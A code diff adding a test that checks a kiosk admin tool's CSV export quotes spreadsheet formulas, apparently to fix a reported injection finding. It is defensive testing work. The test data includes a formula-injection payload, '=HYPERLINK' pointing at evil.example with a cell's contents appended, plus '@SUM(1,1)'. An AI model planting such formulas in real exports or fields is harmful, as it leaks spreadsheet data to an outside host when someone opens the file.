@@ -216,6 +216,31 @@ def test_kiosk_admin_events_csv(broker, tmp_path, t1, backend, capsys):
     db.close()
 
 
+def test_kiosk_admin_events_csv_hands_a_spreadsheet_no_formula(broker, tmp_path, t1, backend, capsys):
+    """Issue 19, finding 4: claims a device signed as text that a spreadsheet would run are quoted in the CSV.
+
+    Before the fix the resident id ``=HYPERLINK(...)`` and the reason
+    ``@SUM(...)`` reached the CSV as they were.
+    """
+    from kiosk.admin import main
+
+    _write_keys(tmp_path, t1, backend)
+    db = open_database(tmp_path / "k.db")
+    outbox = Outbox(db, site=SITE, device="kiosk-t1")
+    outbox.commit(Decision(Outcome.QR_REFUSED, 0, '=HYPERLINK("http://evil.example/?d="&A1,"open")', -0.5,
+                           reason="@SUM(1,1)", method="qr"))
+    t = _publish_when_subscribed(broker, outbox, t1, backend, garbage=False)
+    code = main(_cli_args(broker, tmp_path, "--format", "csv", "--count", "1", "--share", "g2", "--seen", "none"))
+    t.join(10)
+    [header, row] = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    cell = dict(zip(header, row))
+    assert cell["resident_id"] == '\'=HYPERLINK("http://evil.example/?d="&A1,"open")'
+    assert cell["reason"] == "'@SUM(1,1)"
+    assert cell["distance"] == "-0.5"  # a number, minus sign and all
+    assert code == 0
+    db.close()
+
+
 def test_a_replay_after_a_restart_is_dropped_by_default_and_odd_events_flagged(broker, mqtt_probe, t1, t2, backend,
                                                                               tmp_path, monkeypatch, capsys):
     """Finding 8: the reference consumer persists what it printed, keyed on (site, device, event id)."""
